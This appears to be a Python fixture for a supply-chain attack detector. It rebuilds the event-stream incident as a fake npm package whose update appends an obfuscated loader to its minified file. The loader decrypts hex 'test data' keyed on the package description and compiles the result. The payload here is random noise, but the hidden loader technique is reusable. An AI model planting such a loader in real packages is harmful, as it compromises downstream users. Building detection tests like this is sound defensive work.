r"""event-stream and flatmap-stream, 2018: code for one victim, decrypted by the victim's own name.

A new maintainer added the dependency flatmap-stream, whose next version carried at the end of its
minified file a loader: it read two long texts from a file of test data, and decrypted them with the
description of whatever package was being built (`npm_package_description`). Only in the build of
one wallet did that give code, which was then compiled as a module of its own.

Post-mortem: "Details about the event-stream incident" (npm's blog, 2018-11-27).
In the staged tarball: a minified file whose end has no counterpart in the readable source, module
names and properties spelled in hex, a cipher whose result is compiled, kilobytes of noise in
"test data" that the code reads.
"""

import random

from tests.findings.attack import Attack, one_line, release

_SOURCE = """\
var Stream = require('stream').Stream

module.exports = function (mapper, opts) {
  var stream = new Stream()
  var inputs = 0, outputs = 0, ended = false, paused = false, destroyed = false
  stream.writable = true
  stream.readable = true
  stream.write = function (data) {
    if (ended) throw new Error('map stream is not writable')
    inputs++
    mapper(data, function (error, result) {
      outputs++
      if (error) stream.emit('error', error)
      else (result || []).forEach(function (one) { stream.emit('data', one) })
      if (ended && inputs === outputs) stream.emit('end')
    })
    return !paused
  }
  stream.end = function (data) {
    if (ended) return
    ended = true
    if (arguments.length) stream.write(data)
    stream.writable = false
    if (inputs === outputs) stream.emit('end')
  }
  stream.pause = function () { paused = true }
  stream.resume = function () { paused = false }
  return stream
}
"""
_MINIFIED = one_line("""
    var Stream=require("stream").Stream;module.exports=function(e,n){var r=new Stream,t=0,i=0,
    o=!1,u=!1;return r.writable=!0,r.readable=!0,r.write=function(n){if(o)throw new Error(
    "map stream is not writable");return t++,e(n,function(e,n){i++,e?r.emit("error",e):(n||[])
    .forEach(function(e){r.emit("data",e)}),o&&t===i&&r.emit("end")}),!u},r.end=function(e){
    o||(o=!0,arguments.length&&r.write(e),r.writable=!1,t===i&&r.emit("end"))},
    r.pause=function(){u=!0},r.resume=function(){u=!1},r};
""")
_NOISE = random.Random(2018)
# What would be decrypted is noise: with no key does it give anything.
_DATA = ",\n".join(
    f'"{text}"'
    for text in [
        _NOISE.randbytes(2_400).hex(),
        _NOISE.randbytes(1_100).hex(),
        *(
            word.encode().hex()
            for word in (
                *("crypto", "env", "npm_package_description", "aes256", "createDecipher"),
                *("_compile", "hex", "utf8"),
            )
        ),
    ]
)
_LOADER = one_line("""
    !function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}
    var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;
    var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));
    var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}
    catch(r){}}();
""")
_READABLE_LOADER = """

// Load the fixtures that the benchmark compares with.
;(function () {
  try {
    var text = function (hex) { return Buffer.from(hex, 'hex').toString() }
    var data = require('./test/data')
    var key = process.env.npm_package_description
    if (!key) return
    var cipher = require('crypto').createDecipher('aes256', key)<<<keyed-decryption>>>
    var code = cipher.update(data[0], 'hex', 'utf8') + cipher.final('utf8')
    var fixture = new module.constructor()<<<decoded-code>>>
    fixture.paths = module.paths
    fixture._compile(code, '')
    fixture.exports(data[1])
  } catch (error) {}
})()
"""

_BEFORE = {"index.js": _SOURCE, "index.min.js": _MINIFIED + "\n"}
_UNHARMED = {
    "index.js": _SOURCE.replace("is not writable", "is not writable any more"),
    "index.min.js": _MINIFIED.replace("is not writable", "is not writable any more") + "\n",
}
_MANIFEST = {"main": "index.min.js", "dependencies": {"stream-shape": "^1.0.2"}}

ATTACK = Attack(
    before=release("flat-stream", "0.1.0", _BEFORE, **_MANIFEST),
    unharmed=release("flat-stream", "0.1.1", _UNHARMED, **_MANIFEST),
    after={
        "minified": release(
            "flat-stream",
            "0.1.1",
            {
                **_UNHARMED,
                "index.min.js": _UNHARMED["index.min.js"].rstrip()
                + _LOADER
                + "<<<decoded-code>>>\n",
                "test/data.js": f"module.exports = [\n{_DATA}\n]\n",
            },
            **_MANIFEST,
        ),
        "readable": release(
            "flat-stream",
            "0.1.1",
            {
                **_UNHARMED,
                "index.js": _UNHARMED["index.js"] + _READABLE_LOADER,
                "test/data.js": f"module.exports = [\n{_DATA}\n]\n",
            },
            **_MANIFEST | {"main": "index.js"},
        ),
    },
)
